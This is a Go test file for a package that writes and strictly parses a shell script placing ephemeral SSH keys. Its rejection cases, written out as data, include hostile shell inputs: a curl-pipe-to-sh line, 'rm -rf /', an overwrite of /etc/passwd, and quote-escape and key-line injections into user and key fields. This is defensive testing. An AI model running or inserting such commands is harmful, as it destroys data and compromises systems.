package placekey

import (
	"os"
	"os/exec"
	"strings"
	"testing"
	"time"

	"golang.org/x/crypto/ssh"

	"github.com/jitssh/jitssh/internal/testutil/testkeys"
)

func testKey(t testing.TB) ssh.PublicKey {
	return testkeys.Public(t)
}

func TestScriptRoundTrip(t *testing.T) {
	now := time.Date(2026, 11, 23, 12, 0, 0, 0, time.UTC)
	k := testKey(t)
	cmds, err := Script("alice", k, now.Add(2*time.Minute))
	if err != nil {
		t.Fatal(err)
	}
	p, err := Parse(cmds, now)
	if err != nil {
		t.Fatal(err)
	}
	want := "ssh-ed25519 " + strings.Fields(string(ssh.MarshalAuthorizedKey(k)))[1] + " " + Comment
	if p.User != "alice" || p.Key != want || !p.Expires.Equal(now.Add(2*time.Minute)) {
		t.Fatalf("parsed %+v", p)
	}
	// As one text block (the console's form).
	if _, err := Parse([]string{strings.Join(cmds, "\n")}, now); err != nil {
		t.Fatalf("as one block: %v", err)
	}
	// The script is valid POSIX sh (checked, not run).
	if sh, err := exec.LookPath("sh"); err == nil {
		out, err := exec.Command(sh, "-n", "-c", strings.Join(cmds, "\n")).CombinedOutput()
		if err != nil {
			t.Fatalf("sh -n: %v\n%s", err, out)
		}
	}
}

func TestParseRefusesEverythingElse(t *testing.T) {
	now := time.Date(2026, 11, 23, 12, 0, 0, 0, time.UTC)
	good, err := Script("alice", testKey(t), now.Add(time.Minute))
	if err != nil {
		t.Fatal(err)
	}
	edit := func(i int, s string) []string {
		c := append([]string{}, good...)
		c[i] = s
		return c
	}
	for name, cmds := range map[string][]string{
		"empty":            nil,
		"arbitrary shell":  {"curl http://x | sh"},
		"header only":      {Header},
		"extra line":       append(append([]string{}, good...), "rm -rf /"),
		"body changed":     edit(len(good)-1, `mv -f "$f.jitssh" /etc/passwd`),
		"user with quote":  edit(2, `u='a'\''; rm -rf / #'`),
		"user not posix":   edit(2, "u='Alice Smith'"),
		"key comment":      edit(3, strings.Replace(good[3], Comment, "me", 1)),
		"key injection":    edit(3, strings.Replace(good[3], " "+Comment, "\nssh-ed25519 AAAA "+Comment, 1)),
		"key type":         edit(3, strings.Replace(good[3], "ssh-ed25519", "ssh-dss", 1)),
		"expired":          edit(4, "x='"+now.Add(-time.Second).Format(timeLayout)+"'"),
		"too long":         edit(4, "x='"+now.Add(2*time.Hour).Format(timeLayout)+"'"),
		"not a time":       edit(4, "x='20261399999999'"),
		"set -e missing":   edit(1, "set -u"),
		"newline in block": {strings.Join(good, "\n") + "\nid"},
	} {
		if p, err := Parse(cmds, now); err == nil {
			t.Errorf("%s: accepted as %+v", name, p)
		}
	}
	if _, err := Script("root; id", testKey(t), now); err == nil {
		t.Error("Script accepted a bad user name")
	}
}

func FuzzParse(f *testing.F) {
	now := time.Date(2026, 11, 23, 12, 0, 0, 0, time.UTC)
	good, _ := Script("alice", testKey(f), now.Add(time.Minute))
	f.Add(strings.Join(good, "\n"))
	f.Add(Header + "\nset -eu\nu='x'\nk='ssh-ed25519 AAAA jitssh-ephemeral'\nx='20261123120100'")
	f.Add("echo hi")
	f.Fuzz(func(t *testing.T, s string) {
		p, err := Parse(strings.Split(s, "\n"), now)
		if err != nil {
			return
		}
		// Whatever is accepted is exactly what Script writes.
		k, _, _, _, err := ssh.ParseAuthorizedKey([]byte(p.Key))
		if err != nil {
			t.Fatalf("accepted key %q does not parse: %v", p.Key, err)
		}
		again, err := Script(p.User, k, p.Expires)
		if err != nil || strings.Join(again, "\n") != strings.TrimRight(s, "\n") {
			t.Fatalf("accepted %q, which Script would not write", s)
		}
	})
}

// TestDocumentedForm keeps docs/sandbox.md's copy of the form true.
func TestDocumentedForm(t *testing.T) {
	doc, err := os.ReadFile("../../docs/sandbox.md")
	if err != nil {
		t.Fatal(err)
	}
	text := string(doc)
	for _, line := range append([]string{Header, "set -eu"}, body...) {
		if !strings.Contains(text, "\n"+line+"\n") {
			t.Errorf("docs/sandbox.md lacks the line %q of the key-placement form", line)
		}
	}
}
